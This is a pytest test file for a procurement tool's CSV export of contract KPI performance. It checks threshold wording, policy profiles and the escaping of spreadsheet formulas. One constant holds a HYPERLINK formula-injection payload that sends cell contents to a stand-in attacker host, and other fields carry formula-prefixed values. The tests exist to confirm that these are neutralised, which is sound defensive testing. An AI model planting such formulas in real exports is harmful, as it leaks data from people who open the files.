"""Exporting a contract's KPI performance for Procurement Act 2023 publication, read back as a spreadsheet would."""
from __future__ import annotations

import csv
from dataclasses import replace
from datetime import date
from decimal import Decimal

import pytest

from sv_desktop.domain.contract import ContractData
from sv_desktop.domain.delivery import CommitmentData
from sv_desktop.domain.errors import NotFoundError
from sv_desktop.domain.vocabulary import Category, Stage, VatBasis
from sv_desktop.paths import resources_dir, user_policies_dir
from sv_desktop.services.delivery import DeliveryService
from sv_desktop.services.kpi_publication import HEADER, export_kpi_performance, safe_text, threshold_text
from tests.services.test_delivery_portfolio import TODAY, build_portfolio_data, q

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def read_back(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark, so Excel reads £ and accents"
    text = raw.decode("utf-8-sig")
    return list(csv.reader(text.splitlines())), text


@pytest.fixture
def built(services):
    return build_portfolio_data(services)


def column(row, name):
    return row[HEADER.index(name)]


def test_the_export_has_one_row_per_commitment_per_period_with_the_header(built, tmp_path):
    result = export_kpi_performance(built.delivery, built.services.pipeline, "EST-001", tmp_path / "est.csv",
                                    today=TODAY)
    rows, _text = read_back(tmp_path / "est.csv")
    assert tuple(rows[0]) == HEADER
    body = rows[1:]
    assert result.rows == len(body) and result.over_threshold is True
    # Three commitments, each with the six quarters from April 2025 that have started by 15/11/2026 (Q3 2026/27 too).
    assert len(body) == 3 * 7
    apprentices = [r for r in body if column(r, "KPI") == "Apprentices on site"]
    assert [column(r, "Period") for r in apprentices] == [
        "Q1 2025/26", "Q2 2025/26", "Q3 2025/26", "Q4 2025/26", "Q1 2026/27", "Q2 2026/27", "Q3 2026/27"]
    assert [column(r, "Actual") for r in apprentices] == ["4", "5", "3", "0", "2", "", ""]
    assert [column(r, "Status") for r in apprentices][3:6] == ["Verified", "Claimed (not yet verified)", "No return"]
    first = apprentices[0]
    assert column(first, "Contract reference") == "EST-001"
    assert column(first, "Supplier(s)") == "Acme Facilities Ltd"
    assert column(first, "Framework metric") == "ppn002 1aii"
    assert (column(first, "Unit"), column(first, "Target")) == ("number", "30")
    assert (column(first, "Period start"), column(first, "Period end")) == ("2025-04-01", "2025-06-30")
    progress = built.delivery.commitment(built.commitments["est-apprentices"]).progress
    assert column(first, "RAG") == progress.rag.label and column(first, "RAG reason") == progress.reason
    assert column(first, "Contract total value (£)") == "6000000"
    assert "Over £5m" in column(first, "Procurement Act 2023 KPI publication")
    assert "section 52" in column(first, "Procurement Act 2023 KPI publication")


def test_the_file_says_when_a_contract_is_not_over_the_threshold(built, tmp_path):
    result = export_kpi_performance(built.delivery, built.services.pipeline, "TRN-002", tmp_path / "t.csv",
                                    today=TODAY)
    rows, _ = read_back(tmp_path / "t.csv")
    assert result.over_threshold is False
    assert {column(r, "Procurement Act 2023 KPI publication") for r in rows[1:]} == {result.threshold_text}
    assert result.threshold_text.startswith("Not over £5m")


def test_the_threshold_is_strictly_over_five_million_and_the_vat_basis_is_stated():
    assert threshold_text(Decimal(5_000_000), VatBasis.INCLUDING)[0] is False
    assert threshold_text(Decimal("5000000.01"), VatBasis.INCLUDING)[0] is True
    over, text = threshold_text(Decimal(4_500_000), VatBasis.EXCLUDING)
    assert over is False and "includes VAT" in text and "check" in text
    assert threshold_text(None, VatBasis.EXCLUDING)[0] is None


def use_own_profile(services, over: str) -> None:
    """The shipped NHS profile copied into the user's policies folder with its own KPI publication threshold,
    and chosen in Settings (as an officer adapting a profile would: resources/policies/SCHEMA.md)."""
    shipped = (resources_dir() / "policies" / "nhs_trust.yaml").read_text(encoding="utf-8")
    setting = "  kpi_publication:\n    over: 5000000\n"
    assert "\nid: nhs_trust\n" in shipped and setting in shipped
    own = shipped.replace("\nid: nhs_trust\n", "\nid: our_trust\n").replace(
        setting, f"  kpi_publication:\n    over: {over}\n")
    folder = user_policies_dir()
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "our_trust.yaml").write_text(own, encoding="utf-8")
    services.compliance.reload()
    services.settings.save(replace(services.settings.load(), policy_profile="our_trust"))
    assert services.compliance.profile().id == "our_trust" and services.compliance.problems() == ()


def test_the_threshold_is_the_active_policy_profiles(built, tmp_path):
    """settings.kpi_publication (resources/policies/SCHEMA.md): TRN-002 (£2m) is under the Act's £5m, but over a
    profile's own £1m; EST-001 (£6m) is under a profile's £10m."""
    services = built.services
    assert built.delivery.kpi_publication_over() == Decimal(5_000_000)
    use_own_profile(services, "1000000")
    assert built.delivery.kpi_publication_over() == Decimal(1_000_000)
    result = export_kpi_performance(built.delivery, services.pipeline, "TRN-002", tmp_path / "t.csv", today=TODAY)
    assert result.over_threshold is True and result.threshold_text.startswith("Over £1m (£2,000,000")
    rows, _ = read_back(tmp_path / "t.csv")
    assert {column(r, "Procurement Act 2023 KPI publication") for r in rows[1:]} == {result.threshold_text}

    use_own_profile(services, "10000000")
    result = export_kpi_performance(built.delivery, services.pipeline, "EST-001", tmp_path / "e.csv", today=TODAY)
    assert result.over_threshold is False and result.threshold_text.startswith("Not over £10m")


def test_the_words_name_the_threshold_they_were_given():
    assert threshold_text(Decimal(2_000_000), VatBasis.INCLUDING, Decimal(1_000_000))[1].startswith("Over £1m")
    assert threshold_text(Decimal(1_000_000), VatBasis.INCLUDING, Decimal(1_000_000))[0] is False  # strictly over
    assert "over the £250,000 threshold" in threshold_text(None, VatBasis.EXCLUDING, Decimal(250_000))[1]
    over, text = threshold_text(Decimal(900_000), VatBasis.EXCLUDING, Decimal(1_000_000))
    assert over is False and text.startswith("Not over £1m as recorded") and "includes VAT" in text


def test_formulas_are_neutralised_and_numbers_stay_numbers(services, tmp_path):
    delivery = DeliveryService(services.uow_factory, services.catalogue, services.compliance, today=lambda: TODAY)
    detail = services.pipeline.create(ContractData(
        reference="HOST-1", title="+SUM(A1:A9)", category=Category.OTHER, stage=Stage.DELIVERY,
        supplier_names=("@evil supplier", "-minus Ltd"), start_date=date(2026, 4, 1), end_date=date(2027, 3, 31),
        total_value=Decimal("9000000")))
    record = delivery.save_commitment(detail.id, CommitmentData(
        title=HOSTILE, unit="count", target=Decimal("12.5"), start_date=date(2026, 4, 1), due_date=date(2027, 3, 31),
        justification="\tTabbed justification"))
    delivery.save_return(record.id, q(2026, 1), Decimal("3.25"))
    export_kpi_performance(delivery, services.pipeline, "HOST-1", tmp_path / "host.csv", today=TODAY)
    rows, text = read_back(tmp_path / "host.csv")
    row = rows[1]
    assert column(row, "KPI") == "'" + HOSTILE
    assert column(row, "Contract title") == "'+SUM(A1:A9)"
    assert column(row, "Supplier(s)") == "'@evil supplier; -minus Ltd"
    assert column(row, "Framework metric") == "Bespoke"
    assert (column(row, "Target"), column(row, "Actual")) == ("12.5", "3.25")
    assert ",12.5," in text and ",3.25," in text  # numbers unquoted, no apostrophe
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_safe_text_leaves_ordinary_text_alone():
    assert safe_text("Apprentices") == "Apprentices"
    assert [safe_text(t) for t in ("=1", "+1", "-1", "@A", "\tx", "\rx")] == ["'=1", "'+1", "'-1", "'@A", "'\tx",
                                                                               "'\rx"]


def test_rejected_returns_are_listed_but_not_counted(built, tmp_path):
    delivery = built.delivery
    returned = delivery.save_return(built.commitments["dig-apprentices"], q(2026, 2), Decimal(9))
    delivery.reject_return(returned.id, returned.version, "No evidence supplied")
    export_kpi_performance(delivery, built.services.pipeline, "DIG-003", tmp_path / "d.csv", today=TODAY)
    rows, _ = read_back(tmp_path / "d.csv")
    rejected = next(r for r in rows[1:] if column(r, "KPI") == "Digital apprentices"
                    and column(r, "Period") == "Q2 2026/27")
    assert (column(rejected, "Actual"), column(rejected, "Status")) == ("", "Rejected (not counted)")


def test_an_unknown_contract_is_refused_and_nothing_is_written(built, tmp_path):
    with pytest.raises(NotFoundError, match="NOPE"):
        export_kpi_performance(built.delivery, built.services.pipeline, "NOPE", tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()


def test_a_contract_without_commitments_still_gets_a_header(built, tmp_path):
    result = export_kpi_performance(built.delivery, built.services.pipeline, "CLN-004", tmp_path / "c.csv",
                                    today=TODAY)
    rows, _ = read_back(tmp_path / "c.csv")
    assert rows == [list(HEADER)] and result.rows == 0 and result.over_threshold is False


def test_a_commitment_still_to_be_filled_in_has_one_row_saying_so(built, tmp_path):
    services = built.services
    contract_id = built.contracts["CLN-004"]
    built.delivery.save_commitment(contract_id, CommitmentData(title="Local jobs", unit="count", framework_id="ppn002",
                                                               ref="1ai"))
    export_kpi_performance(built.delivery, services.pipeline, "CLN-004", tmp_path / "c.csv", today=TODAY)
    rows, _ = read_back(tmp_path / "c.csv")
    assert len(rows) == 2 and column(rows[1], "Status") == "No return"
    assert "fill in the target" in column(rows[1], "RAG reason")
